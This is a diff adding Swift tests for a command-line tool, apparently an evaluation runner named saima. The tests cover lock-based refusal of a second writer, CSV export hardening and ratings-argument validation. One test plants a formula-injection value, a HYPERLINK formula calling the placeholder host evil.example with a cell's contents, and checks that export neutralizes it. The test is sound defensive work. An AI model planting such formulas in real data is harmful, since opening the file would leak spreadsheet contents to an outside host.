@@ -103,3 +103,49 @@ struct AppealsWorkflowTests {
         #expect(tampered.stderr.contains("judge reading of"))
     }
 }
+
+/// Issue 11 rows 15–17 through the real binary: a second writer is refused, exports neutralize formulas,
+/// rating counts are validated.
+@Suite("Records under a second process and hostile cells", .serialized)
+struct RecordSafetyTests {
+    @Test func row15ASecondWriterOfTheSameRunFolderIsRefused() async throws {
+        let out = RoundWorkflowTests.temporaryFolder()
+        defer { try? FileManager.default.removeItem(atPath: out) }
+        try FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: true)
+        // Hold the folder's lock in a child process (flock(1) from util-linux), then try a run.
+        let holder = Process()
+        holder.executableURL = URL(fileURLWithPath: "/usr/bin/flock")
+        holder.arguments = [out + "/run.lock", "sleep", "30"]
+        try holder.run()
+        defer { holder.terminate() }
+        try await Task.sleep(for: .milliseconds(300))
+        let r = try await SaimaBinary.run(
+            ["run", "--round", "r", "--team", "keyword-lab", "--track", "legal", "--out", out],
+            directory: SaimaBinary.repositoryRoot)
+        #expect(r.status != 0)
+        #expect(r.stderr.contains("is being written by another saima process"), "\(r.stderr)")
+        #expect(!FileManager.default.fileExists(atPath: out + "/run.sqlite"), "nothing was written")
+    }
+
+    @Test func row16ExportNeutralizesFormulasAndRow17RatingsValidatesCounts() async throws {
+        let out = RoundWorkflowTests.temporaryFolder()
+        defer { try? FileManager.default.removeItem(atPath: out) }
+        #expect(try await SaimaBinary.run(["demo", "--out", out, "--quiet"], directory: SaimaBinary.repositoryRoot).status == 0)
+        let db = try DatabaseQueue(path: out + "/run.sqlite")
+        try await db.write { db in
+            try db.execute(sql: "UPDATE results SET content = CAST(? AS BLOB) WHERE seq = 1", arguments: [#"=HYPERLINK("http://evil.example/"&A1,"x")"#])
+        }
+        let csv = try await SaimaBinary.run(
+            ["export", "--out", out, "--format", "csv", "--output", out + "/raw.csv"], directory: SaimaBinary.repositoryRoot)
+        #expect(csv.status == 0)
+        let text = try String(contentsOfFile: out + "/raw.csv", encoding: .utf8)
+        #expect(text.contains(#""'=HYPERLINK(""http://evil.example/""&A1,""x"")""#), "the formula is neutralized")
+        #expect(!text.contains(#",=HYPERLINK"#) && !text.contains(#","=HYPERLINK"#))
+        for bad in ["-1", "0"] {
+            let r = try await SaimaBinary.run(
+                ["ratings", "--battles", out + "/none.jsonl", "--bootstrap=\(bad)"], directory: SaimaBinary.repositoryRoot)
+            #expect(r.status != 0)
+            #expect(r.stderr.contains("--bootstrap must be from 100 to 100000"), "\(r.stderr)")
+        }
+    }
+}
